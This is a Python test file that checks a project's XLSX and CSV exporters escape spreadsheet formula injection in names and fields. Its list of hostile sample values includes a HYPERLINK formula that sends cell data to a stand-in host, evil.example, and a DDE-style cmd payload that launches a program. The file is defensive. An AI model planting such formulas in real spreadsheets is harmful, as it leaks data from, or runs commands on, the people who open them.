"""Formula injection (issue 19): every XLSX and CSV the suite writes shows a hostile name as text."""
import csv
import io

import openpyxl
import pytest

from lianbao.commands.export_notice import write_notice
from services.survey.report import workbook_bytes
from shared.spreadsheet import safe_cell, safe_row

pytestmark = pytest.mark.timeout(30)

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def test_safe_cell_follows_owasp():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("干警1", "o1", "1+1", "a=b", "", None, 0, -5, 12.5):
        assert safe_cell(value) == value            # numbers stay numbers, harmless text unchanged
    assert safe_row(["=x", 1, None]) == ["'=x", 1, None]


def _texts(values):  # XML keeps no bare CR: a cell's "\r" reads back as "\n"
    return {v.replace("\r", "\n") for v in values if isinstance(v, str)}


def _all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_the_survey_rates_workbook_writes_hostile_names_as_text():
    subject = {"kind": "officer", "forms": 3, "satisfied": 1, "basic": 1, "dissatisfied": 1, "answered": 3,
               "rate": "0.6667", "below_60": False, "dimensions": {}, "groups": {}}
    rates = {"campaign_id": "=c1", "period": "2026H1", "status": "open",
             "totals": {"dimensions": [], "groups": []},
             "subjects": [{**subject, "id": f"o{i}", "name": name} for i, name in enumerate(HOSTILE)]}
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(rates)))
    cells = list(_all_cells(wb))
    assert not [c.value for c in cells if c.data_type == "f"]
    assert _texts("'" + name for name in HOSTILE) <= _texts(c.value for c in cells)
    assert any(c.value == 3 for c in cells)          # counts are still numbers


def test_the_notice_xlsx_and_csv_write_hostile_names_as_text(tmp_path):
    notice = {"period": "2026", "headers": ["单位", "姓名", "星级", "金额"],
              "sheets": {"a1": [["a1", name, 5, 1000] for name in HOSTILE] + [["a1", "张三", 4, -200]]},
              "summary_headers": ["发放单位", "金额"], "summary": [["=a1", 800]]}
    paths = write_notice(notice, tmp_path)
    wb = openpyxl.load_workbook(tmp_path / "notice_2026.xlsx")
    cells = list(_all_cells(wb))
    assert not [c.value for c in cells if c.data_type == "f"]
    assert _texts("'" + name for name in HOSTILE) <= _texts(c.value for c in cells)
    assert -200 in {c.value for c in cells}
    for path in paths:
        if path.suffix != ".csv":
            continue
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, value)
                    assert not value.startswith("-") or value.lstrip("-").isdigit(), (path.name, value)
